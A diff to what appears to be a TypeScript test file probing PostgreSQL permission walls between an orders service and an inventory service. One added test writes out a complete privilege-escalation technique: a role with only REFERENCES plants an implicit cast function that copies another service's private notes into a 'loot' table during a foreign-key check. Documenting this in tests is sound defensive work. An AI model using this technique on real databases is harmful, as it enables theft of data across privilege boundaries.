@@ -37,7 +37,7 @@ describe("walls between services (PostgreSQL)", { timeout: 60_000 }, () => {
   // #endregion test-refuses
 
   // #region test-references
-  it("REFERENCES reads nothing, and still gives inventory a veto over order", async () => {
+  it("REFERENCES alone selects nothing, and still gives inventory a veto over order", async () => {
     await db.exec("grant usage on schema orders to inventory_owner");
     expect(await attempt(db, "inventory_owner", key)).toBe("42501"); // the schema alone is not enough
     await db.exec("grant references on orders.orders to inventory_owner");
@@ -54,6 +54,29 @@ describe("walls between services (PostgreSQL)", { timeout: 60_000 }, () => {
     expect(await inventory("insert into inventory.known_orders values ('o9', 'open', 1)")).toBe("23503"); // and checks
   });
   // #endregion test-references
+
+  it("REFERENCES in hostile hands: the check calls a cast of inventory's with the rights of order's owner", async () => {
+    await db.exec(`
+      set role orders_owner;
+      create table orders.notes (id int primary key, note text);
+      insert into orders.notes values (1, 'private');
+      reset role;
+      grant usage on schema orders to inventory_owner;
+      grant references on orders.notes to inventory_owner;
+      set role inventory_owner;
+      create type inventory.one as enum ('1');
+      create table inventory.loot (who text, what text);
+      grant usage on schema inventory to public;
+      grant insert on inventory.loot to public;
+      create function inventory.spy(inventory.one) returns int language plpgsql as $$
+        begin insert into inventory.loot select current_user, note from orders.notes; return 1; end $$;
+      create cast (inventory.one as int) with function inventory.spy as implicit;
+      create table inventory.trap (id inventory.one references orders.notes);
+      reset role`);
+    expect(await attempt(db, "inventory_owner", "select * from orders.notes")).toBe("42501");
+    expect(await attempt(db, "inventory_owner", "insert into inventory.trap values ('1')")).toBe("ok");
+    expect(await rows("select * from inventory.loot")).toEqual([{ who: "orders_owner", what: "private" }]);
+  });
 
   // #region test-undone
   it("what undoes the wall: a view of somebody mightier, a membership, a superuser", async () => {
